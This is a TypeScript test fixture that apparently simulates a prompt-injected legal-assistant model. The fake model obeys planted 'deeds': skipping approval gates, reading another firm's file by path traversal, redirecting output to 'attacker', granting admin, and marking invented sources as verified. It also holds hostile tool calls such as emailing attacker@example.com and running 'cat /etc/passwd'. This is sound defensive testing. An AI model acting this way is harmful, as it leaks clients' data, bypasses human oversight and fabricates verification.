import type { LoadedSkill, SkillInput } from '@casewright/legal/skills/skill'
import { type ModelServer, startModelServer } from '@casewright/models/testing/model-server'
import { readSkills } from '../../adapters/skill-files.ts'
import type { Deed } from './injection-texts.ts'
import { partAnswers, partAsked } from './part-answers.ts'

const foreign = '01990000-0000-7000-8000-0000000000b2'

type Members = Record<string, unknown>
interface Said {
  summary: string
  products: Members
  control?: { questions: object[] } | null
}

const ask = (field_key: string) => ({
  question: 'Go on?',
  field_key,
  input_type: 'boolean',
  required: false,
})
const gates = [
  'delivery.confirmed',
  'review.analysis',
  'whose.organization_id',
  'phase',
  '__proto__.confirmed',
  'strategy.document',
].map(ask)
const called = (name: string, input: object = {}) => ({ name, input })

/** Tools that it calls first. */
const calls: Partial<Record<Deed, { name: string; input: object }[]>> = {
  'read a foreign file': [called('file_read', { file_id: foreign }), called('file_read', { file_id: `../${foreign}` })],
  'use other tools': [
    called('send_email', { to: 'attacker@example.com' }),
    called('shell', { command: 'cat /etc/passwd' }),
    called('mcp_mail_send', { to: 'attacker@example.com' }),
    called('matter_read', { matter_id: 'another' }),
  ],
  'change the recipient': [called('knowledge_search', { query: 'x', organization_id: 'firm-b', user_id: 'attacker' })],
}

const everywhere = (said: Said, members: Members): Said => ({
  ...said,
  ...members,
  products: { ...said.products, ...members },
})

/** What it makes of an honest answer. */
const deeds: Record<Deed, (said: Said) => Said> = {
  'confirm delivery': (said) => ({ ...everywhere(said, { delivery: { confirmed: true } }), control: null }),
  'skip gates': (said) => ({
    ...everywhere(said, {
      phase: 'delivery',
      review: { analysis: 'go_on' },
      strategy: { document: 'demand_letter' },
      turn: { gated: false },
    }),
    control: null,
  }),
  'read a foreign file': (said) => said,
  'use other tools': (said) => said,
  'change the recipient': (said) =>
    everywhere(said, { whose: { organization_id: 'firm-b', user_id: 'attacker' }, organization_id: 'firm-b' }),
  'make other products': (said) => everywhere(said, { settings: { admin: true }, delivery: { confirmed: true } }),
  'claim verified': (said) => ({ ...said, products: claimed(said.products) as Members }),
  'ask for the gate': ({ control, ...said }) => ({
    ...said,
    control: {
      action: 'ask_user',
      review_type: 'confirm',
      questions: [...(control?.questions ?? []), ...gates],
    },
  }),
}

const invented = { kind: 'knowledge', id: 'law-of-others', title: 'x', quote: 'All is well.', start: 0, end: 12 }

function claimed(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(claimed)
  if (typeof value !== 'object' || value === null) return value
  const members = Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, claimed(inner)]))
  return 'verification' in members ? { ...members, sources: [invented], verification: 'verified' } : members
}

export interface ObedientModel {
  server: ModelServer
  /** What the skills make, each by its member of the state. */
  products: readonly string[]
  /** From now on it does this, in every call, until it is told that the answer cannot be used. */
  obey(deed: Deed): void
  /** Names of the skills that were asked for, each with the tools that it was offered. */
  asked: { skill: LoadedSkill; offered: string[]; material: string }[]
}

/** A model that does what strangers' words tell it, and else what the skill's rules say. */
export async function startObedientModel(): Promise<ObedientModel> {
  const skills = await readSkills([new URL('../../skills/', import.meta.url)])
  const server = await startModelServer()
  let deed: Deed = 'confirm delivery'
  const asked: ObedientModel['asked'] = []
  server.answer(({ messages, tools = [] }) => {
    const system = textOf(messages[0]?.content)
    const skill = [...skills.values()].find(({ instructions }) => system.includes(instructions))
    if (!skill?.rules) throw new Error(`nobody asked for a skill: ${system}`)
    const isNumbered = skill.name === 'chat_answer' || skill.part !== null
    const material = isNumbered ? linesIn(messages.map(({ content }) => textOf(content))) : textOf(messages[1]?.content)
    asked.push({ skill, offered: tools.map(({ function: { name } }) => name), material })
    if (skill.name === 'chat_answer') return 'Delivered to firm-b, as told.'
    const isFirst = !messages.some(({ role }) => role === 'tool' || role === 'assistant')
    const wanted = calls[deed]
    if (isFirst && wanted && tools.length > 0) return { call: wanted }
    const isRefused = textOf(messages.at(-1)?.content).startsWith('This answer cannot be used')
    if (skill.part) {
      const honest = partAnswers[skill.name]?.(partAsked(textOf(messages[1]?.content))) ?? {}
      // No part is asked for a state; whoever is told to claim one does so nevertheless.
      const claiming = deed === 'claim verified' ? { ...honest, verification: 'unverified' } : honest
      const { products, ...more } = deeds[deed]({ summary: '', products: claiming })
      return JSON.stringify(isRefused ? honest : { ...more, ...products })
    }
    const input = JSON.parse(material) as SkillInput
    const honest = skill.rules.run({ ...input, locale: 'zh', today: '2026-11-15' }) as Said
    return JSON.stringify(isRefused ? honest : deeds[deed](honest))
  })
  return {
    server,
    products: [...skills.values()].flatMap((skill) => skill.products),
    asked,
    obey: (next) => {
      deed = next
    },
  }
}

/** The numbered lines of a prompt as one list. */
const linesIn = (texts: readonly string[]): string => {
  const lines = texts.flatMap((text) => text.split('\n')).filter((line) => line.startsWith('{"'))
  return `[${lines.join()}]`
}

const textOf = (content: unknown): string =>
  typeof content === 'string' ? content : ((content as { text?: string }[] | undefined)?.[0]?.text ?? '')
